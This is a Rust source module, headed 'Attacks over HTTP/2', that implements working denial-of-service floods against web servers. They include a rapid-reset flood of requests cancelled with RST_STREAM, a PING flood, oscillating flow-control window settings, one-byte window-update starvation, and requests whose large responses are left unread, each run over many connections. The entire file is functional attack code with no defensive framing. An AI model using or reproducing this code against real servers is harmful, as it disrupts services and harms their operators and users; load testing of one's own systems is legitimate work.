//! Attacks over HTTP/2.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use super::Target;
use super::frames::{
    DATA, END_STREAM, Frames, GOAWAY, HEADERS, Head, PING, RST_STREAM, Requests, preface, put, put_window_of_streams,
    put_window_update,
};

/// Streams at a time: as many as every server allows (RFC 9113 §6.5.2).
const STREAMS: usize = 100;

/// The largest window (RFC 9113 §6.9.1).
const WINDOW_MAX: u32 = (1 << 31) - 1;

/// What the window of a connection is at first.
const WINDOW_FIRST: u32 = 65_535;

/// What is small, and what takes a while to take.
const SMALL: &str = "/1k";
const LARGE: &str = "/100k";

/// Frames that are sent at once.
const BATCH: usize = 500;

const READ_BYTES: usize = 64 * 1024;

/// How long answers are not read, before others are not.
const UNREAD_TIME: Duration = Duration::from_secs(1);

/// Writes what `more` says, and reads what comes beside it, without waiting for it.
async fn flood(target: &Target, number: usize, window: u32, mut more: impl FnMut(&mut Vec<u8>)) -> io::Result<()> {
    let (mut input, mut output) = tokio::io::split(target.http2(number).await?);
    let writing = async {
        output.write_all(&preface(window)).await?;
        let mut out = Vec::new();
        loop {
            out.clear();
            more(&mut out);
            output.write_all(&out).await?;
        }
    };
    let reading = async {
        let mut bytes = vec![0; READ_BYTES];
        while input.read(&mut bytes).await? > 0 {}
        Err(io::ErrorKind::UnexpectedEof.into())
    };
    tokio::select! {
        ended = writing => ended,
        ended = reading => ended,
    }
}

pub(super) async fn resets(target: &Target, number: usize) -> io::Result<()> {
    let mut requests = Requests::to(&target.host, SMALL);
    flood(target, number, WINDOW_FIRST, |out| {
        for _ in 0..STREAMS {
            let stream = requests.put(out);
            put(out, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        }
    })
    .await
}

pub(super) async fn pings(target: &Target, number: usize) -> io::Result<()> {
    flood(target, number, WINDOW_FIRST, |out| (0..BATCH).for_each(|_| put(out, PING, 0, 0, &[7; 8]))).await
}

pub(super) async fn settings(target: &Target, number: usize) -> io::Result<()> {
    let mut requests = Requests::to(&target.host, LARGE);
    let mut is_first = true;
    flood(target, number, 0, |out| {
        if std::mem::take(&mut is_first) {
            requests.put_many(out, STREAMS);
        }
        // Windows may be negative: what was sent counts (RFC 9113 §6.9.2).
        (0..20).for_each(|turn| put_window_of_streams(out, turn % 2));
    })
    .await
}

pub(super) async fn windows(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = target.http2(number).await?;
    let mut requests = Requests::to(&target.host, SMALL);
    let mut out = preface(1);
    put_window_update(&mut out, 0, WINDOW_MAX - WINDOW_FIRST);
    requests.put_many(&mut out, STREAMS);
    let (mut frames, mut bytes) = (Frames::default(), vec![0; READ_BYTES]);
    loop {
        stream.write_all(&out).await?;
        stream.flush().await?;
        out.clear();
        let read = stream.read(&mut bytes).await?;
        if read == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        frames.add(&bytes[..read]);
        while let Some(head) = frames.next(&mut out) {
            match head {
                Head { kind: GOAWAY, .. } => return Ok(()),
                Head { kind: DATA | HEADERS | RST_STREAM, flags, .. }
                    if head.kind == RST_STREAM || flags & END_STREAM != 0 =>
                {
                    requests.put(&mut out);
                }
                Head { kind: DATA, stream, length: 1.., .. } => put_window_update(&mut out, stream, 1),
                _ => {}
            }
        }
    }
}

pub(super) async fn unread(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = target.http2(number).await?;
    let mut requests = Requests::to(&target.host, LARGE);
    let mut out = preface(WINDOW_MAX);
    put_window_update(&mut out, 0, WINDOW_MAX - WINDOW_FIRST);
    requests.put_many(&mut out, STREAMS);
    stream.write_all(&out).await?;
    stream.flush().await?;
    sleep(UNREAD_TIME).await;
    Ok(())
}
